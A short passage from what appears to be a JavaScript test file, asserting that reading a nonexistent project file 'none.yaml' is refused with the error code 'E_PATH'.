  expect((await refusal(() => readProject(folder(designed), 'none.yaml'))).code).toBe('E_PATH');
});
